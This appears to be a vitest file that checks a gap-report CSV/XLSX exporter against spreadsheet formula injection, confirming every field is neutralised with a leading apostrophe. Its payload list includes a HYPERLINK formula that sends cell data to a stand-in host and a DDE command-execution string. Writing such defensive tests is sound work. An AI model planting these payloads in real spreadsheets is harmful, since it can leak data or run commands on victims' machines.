import ExcelJS from "exceljs";
import { describe, expect, it } from "vitest";
import { gapReportToCsv } from "./csv";
import { makeSampleReport } from "./sample-report";
import type { GapReport } from "./types";
import { gapReportToXlsx } from "./xlsx";

// §9 C 31 / ASVS 1.2.10 for EVERY text field that reaches a spreadsheet, not a chosen few: each
// string in the export DTO (vendor name, tier, decision note, decided by, evidence title/kind/auditor,
// gap title, detail, owner, service, citation, keys, even dates and enums a bug could fill with
// text) is replaced by a formula payload, and no cell of the CSV or XLSX may start like a formula.
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"open")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "＝1",
  "=cmd|' /C calc'!A0",
];
const LIVE = /^[=+\-@\t\r\0\uFF1D\uFF0B\uFF0D\uFF20]/;

/** The sample report with every string leaf replaced by a payload, and how many were replaced. */
function hostileReport(): { report: GapReport; replaced: number } {
  const report = makeSampleReport(2, 6);
  let n = 0;
  const walk = (node: unknown): unknown => {
    if (typeof node === "string") return PAYLOADS[n++ % PAYLOADS.length];
    if (Array.isArray(node)) return node.map(walk);
    if (node && typeof node === "object") return Object.fromEntries(Object.entries(node).map(([k, v]) => [k, walk(v)]));
    return node;
  };
  const vendors = walk(report.vendors) as GapReport["vendors"];
  return { report: { ...report, tenantName: PAYLOADS[0], vendors }, replaced: n };
}

function csvCells(text: string): string[] {
  const cells: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') ((field += '"'), i++);
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === "," || (c === "\r" && text[i + 1] === "\n")) {
      cells.push(field);
      field = "";
      if (c === "\r") i++;
    } else field += c;
  }
  return cells;
}

describe("formula injection in every exported text field", () => {
  it("CSV: no cell starts like a formula; each payload arrives with a leading apostrophe", () => {
    const { report, replaced } = hostileReport();
    expect(replaced).toBeGreaterThan(100);
    const cells = csvCells(gapReportToCsv(report).replace(/^\uFEFF/, ""));
    expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
    const guarded = cells.filter((c) => c.startsWith("'") && PAYLOADS.includes(c.slice(1)));
    expect(guarded.length).toBeGreaterThan(12 * 8); // 12 gap rows, most columns carrying a payload
  });

  it("XLSX: no cell is a formula or starts like one, in any sheet, nor the workbook title", async () => {
    const { report } = hostileReport();
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await gapReportToXlsx(report)) as unknown as ArrayBuffer);
    const live: string[] = [];
    let guarded = 0;
    for (const sheet of wb.worksheets) {
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type).not.toBe(ExcelJS.ValueType.Formula);
          if (typeof cell.value !== "string") return;
          if (LIVE.test(cell.value)) live.push(`${sheet.name}!${cell.address}: ${JSON.stringify(cell.value)}`);
          if (cell.value.startsWith("'")) guarded++;
        }),
      );
    }
    expect(live).toEqual([]);
    expect(guarded).toBeGreaterThan(12 * 8);
    expect(LIVE.test(wb.title ?? "")).toBe(false);
  });
});
